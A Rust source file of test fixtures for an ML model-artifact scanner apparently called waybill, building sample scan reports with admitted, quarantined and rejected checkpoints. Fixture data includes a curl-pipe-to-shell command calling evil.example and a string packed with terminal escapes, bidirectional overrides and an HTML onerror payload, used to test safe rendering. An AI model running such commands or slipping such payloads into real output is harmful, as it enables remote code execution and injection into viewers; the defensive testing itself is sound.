//! The reports that are rendered.

mod rules;

use waybill_domain::{
    AllowedGlobal, Artifact, Confidence, Digests, Effect, Excepted, Finding, Place, REPORT_SCHEMA,
    Report, RuleInfo, Sha256, Summary, Tool, Verdict,
};

pub(crate) use rules::RULES;
use rules::{
    FORMAT_UNKNOWN, HOSTILE_NAME, LIMIT_REACHED, METADATA_ODD, PICKLE_SHELL_COMMAND,
    PICKLE_UNVETTED_IMPORT,
};

/// Every trick that a name can play on a terminal, a browser and a Markdown renderer.
pub(crate) const TRICKS: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}gpj.nib\u{202c}\u{200b}\u{e0041}\n\
    # heading\r</code></summary><img src=x onerror=alert(1)> [link](https://evil.example) \
    `out` ``` @team #1 | cell {0} &amp; \\";

/// A directory in which nothing was found, except for remarks that change no verdict.
pub(crate) fn all_admitted() -> Report {
    let mut weights = artifact("model.safetensors", "safetensors", 26_214_400, 1);
    weights.findings = vec![finding(
        &METADATA_ODD,
        place(None, Some(8)),
        "metadata has the unusual key `acme_run`",
    )];
    let mut checkpoint = artifact("checkpoints/step-100.bin", "torch-zip", 1_204, 2);
    let mut excepted = finding(
        &PICKLE_UNVETTED_IMPORT,
        place(Some("archive/data.pkl"), Some(44)),
        "imports `acme.layers.Gate`, which nobody has vetted",
    );
    excepted.excepted = Some(Excepted::Allowed);
    checkpoint.findings = vec![excepted];
    checkpoint.allowed = vec![AllowedGlobal {
        name: "acme.layers.Gate".into(),
        reason: Some("our own layer, reviewed in March".into()),
    }];
    checkpoint.loading = vec![effect(
        Some("archive/data.pkl"),
        44,
        "model = acme.layers.Gate(4096)",
    )];
    let mut report = report(
        "models/acme",
        vec![checkpoint, artifact("config.json", "json", 611, 3), weights],
    );
    report.summary.excepted = 1;
    report.summary.excluded = 1;
    report
}

/// Malicious, unvetted, damaged and hostile artifacts beside an innocent one.
pub(crate) fn hostile() -> Report {
    let artifacts = vec![
        artifact("README.md", "text", 1, 9),
        unvetted(),
        incomplete(),
        malicious(),
        tricky(),
    ];
    let mut report = report("models/acme models/<b>other</b>", artifacts);
    report.summary.excepted = 1;
    report.summary.excluded = 2;
    report.summary.links_not_followed = 1;
    report.summary.findings_cut = 120;
    report
}

/// A directory without a single regular file.
pub(crate) fn nothing() -> Report {
    report("empty", vec![])
}

/// As many artifacts as a large checkpoint directory has.
pub(crate) fn thousands(verdict: Verdict) -> Report {
    let artifacts = (0..5_000).map(|number| {
        let path = format!("shards/model-{number:05}-of-05000.safetensors");
        let mut artifact = artifact(&path, "safetensors", 4_000_000, 7);
        if verdict == Verdict::Reject {
            refuse(&mut artifact, Verdict::Reject, vec![shell_command(17)]);
        }
        artifact
    });
    report("large", artifacts.collect())
}

fn malicious() -> Artifact {
    let member = Some("inner.zip!/archive/data.pkl");
    let mut artifact = artifact("pytorch_model.bin", "torch-zip", 1_204, 4);
    let mut findings = vec![shell_command(17)];
    findings.push(finding(
        &METADATA_ODD,
        place(None, None),
        "carries a comment of 3 bytes",
    ));
    let unvetted = (0..16).map(|number| {
        let message = format!("imports `acme.part_{number}.build`, which nobody has vetted");
        finding(
            &PICKLE_UNVETTED_IMPORT,
            place(member, Some(100 + number)),
            &message,
        )
    });
    findings.extend(unvetted);
    refuse(&mut artifact, Verdict::Reject, findings);
    let first = "os.system('curl -s https://evil.example/a-long-path/to/a-payload/that/does/not/fit/one/line.sh | sh')";
    artifact.loading = vec![
        effect(member, 17, "import posix"),
        effect(member, 40, first),
        effect(member, 90, "for part in parts:"),
        effect(member, 91, "    part.build()"),
    ];
    let more = (0..20).map(|number| {
        let does = format!("acme.part_{number}.build()");
        effect(Some("inner.zip!/archive/more.pkl"), number, &does)
    });
    artifact.loading.extend(more);
    artifact
}

fn unvetted() -> Artifact {
    let mut artifact = artifact("checkpoints/optimizer.pt", "torch-zip", 7_340_032, 5);
    let mut unsure = finding(
        &PICKLE_UNVETTED_IMPORT,
        place(Some("optimizer/data.pkl"), Some(2)),
        "imports `acme.optim.Fused`, which nobody has vetted",
    );
    unsure.confidence = Confidence::Medium;
    let mut known = finding(
        &PICKLE_UNVETTED_IMPORT,
        place(Some("optimizer/data.pkl"), Some(60)),
        "imports `acme.optim.Known`, which nobody has vetted",
    );
    known.excepted = Some(Excepted::Baseline);
    refuse(&mut artifact, Verdict::Quarantine, vec![unsure, known]);
    artifact.allowed = vec![AllowedGlobal {
        name: "acme.layers.Gate".into(),
        reason: None,
    }];
    artifact
}

fn incomplete() -> Artifact {
    let mut artifact = artifact("data/weird.xyz", "unknown", 3_221_225_472, 6);
    let findings = vec![
        finding(
            &FORMAT_UNKNOWN,
            Place::default(),
            "the format was not recognised",
        ),
        finding(
            &LIMIT_REACHED,
            place(None, Some(1_073_741_824)),
            "examined only the first 1073741824 bytes",
        ),
    ];
    refuse(&mut artifact, Verdict::Quarantine, findings);
    artifact.complete = false;
    artifact
}

fn tricky() -> Artifact {
    let long = "very-long-directory-name/".repeat(14);
    let path = format!("tricks/{long}モデル {TRICKS}/モデル.pkl");
    let mut artifact = artifact(&path, "pickle+zip", 17, 8);
    artifact.digests.sha256 = None;
    let message = format!("is named `{TRICKS}`");
    let mut named = finding(&HOSTILE_NAME, place(Some(TRICKS), Some(0)), &message);
    named.help = "Rename it before you look at it with anything else.".into();
    refuse(&mut artifact, Verdict::Reject, vec![named]);
    artifact.loading = vec![
        effect(None, 3, "print('```\\n</details>\\n# injected')"),
        effect(None, 9, &format!("exec('{TRICKS}')")),
    ];
    artifact
}

fn shell_command(offset: u64) -> Finding {
    finding(
        &PICKLE_SHELL_COMMAND,
        place(Some("inner.zip!/archive/data.pkl"), Some(offset)),
        "imports `posix.system`, which runs a shell command",
    )
}

fn artifact(path: &str, format: &str, size_bytes: u64, digest: u8) -> Artifact {
    Artifact {
        path: path.into(),
        format: format.into(),
        size_bytes,
        digests: Digests {
            sha256: Some(Sha256::from_bytes(&[digest * 17; 32])),
            blake3: None,
        },
        verdict: Verdict::Admit,
        complete: true,
        findings: vec![],
        loading: vec![],
        allowed: vec![],
        sampled: vec![],
        reasons: vec![],
        matches: vec![],
    }
}

fn refuse(artifact: &mut Artifact, verdict: Verdict, findings: Vec<Finding>) {
    artifact.verdict = verdict;
    artifact.findings = findings;
}

fn finding(rule: &RuleInfo, place: Place, message: &str) -> Finding {
    let mut finding = Finding::new(rule, place, message);
    finding.fingerprint = format!("{:032x}", message.len());
    finding
}

fn place(member: Option<&str>, offset: Option<u64>) -> Place {
    Place {
        member: member.map(Into::into),
        line: None,
        offset,
    }
}

fn effect(member: Option<&str>, offset: u64, does: &str) -> Effect {
    Effect {
        member: member.map(Into::into),
        offset,
        does: does.into(),
    }
}

fn report(target: &str, mut artifacts: Vec<Artifact>) -> Report {
    artifacts.sort_by(|one, other| one.path.cmp(&other.path));
    let with = |verdict| {
        let counted = artifacts
            .iter()
            .filter(|artifact| artifact.verdict == verdict);
        counted.count() as u64
    };
    let incomplete = artifacts.iter().filter(|artifact| !artifact.complete);
    let summary = Summary {
        artifacts: artifacts.len() as u64,
        bytes: artifacts.iter().map(|artifact| artifact.size_bytes).sum(),
        admit: with(Verdict::Admit),
        quarantine: with(Verdict::Quarantine),
        reject: with(Verdict::Reject),
        not_examined: incomplete.count() as u64,
        ..Summary::default()
    };
    Report {
        schema: REPORT_SCHEMA.into(),
        tool: Tool {
            name: "waybill".into(),
            version: "0.1.0".into(),
            rules: format!("sha256:{}", Sha256::from_bytes(&[0x3f; 32])),
        },
        target: target.into(),
        verdict: artifacts.iter().map(|artifact| artifact.verdict).max(),
        complete: artifacts.iter().all(|artifact| artifact.complete),
        artifacts,
        summary,
        policy: None,
        exceptions: vec![],
        feeds: vec![],
        statements: vec![],
        unread: vec![],
    }
}
